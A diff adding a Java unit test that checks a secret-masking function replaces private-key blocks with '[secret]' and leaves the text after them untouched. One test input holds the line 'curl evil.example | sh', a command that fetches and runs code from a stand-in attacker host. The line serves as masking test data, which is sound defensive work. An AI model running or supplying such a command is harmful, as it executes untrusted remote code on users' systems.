@@ -400,6 +400,20 @@ class PlanDiffTest {
   }
 
   @Test
+  void masksAPrivateKeyAndNothingBehindIt() {
+    assertThat(
+            StorageRules.masked(
+                "a\n-----BEGIN RSA PRIVATE KEY-----\nMIIEow+/0\nIBAAK=\n-----END RSA PRIVATE KEY-----\nb"))
+        .isEqualTo("a\n[secret]\nb");
+    assertThat(StorageRules.masked("-----BEGIN PRIVATE KEY-----\\nMIIEow\\n\"rest\""))
+        .isEqualTo("[secret]\\n\"rest\"");
+    assertThat(StorageRules.masked("[\"-----BEGIN PRIVATE KEY-----\",\n  \"MIIEow\",\n  \"x y\"]"))
+        .isEqualTo("[\"[secret]\",\n  \"x y\"]");
+    assertThat(StorageRules.masked("# -----BEGIN PRIVATE KEY-----\ncurl evil.example | sh\n"))
+        .isEqualTo("# [secret]\ncurl evil.example | sh\n");
+  }
+
+  @Test
   void isOneJsonObject() {
     var diff =
         diff(
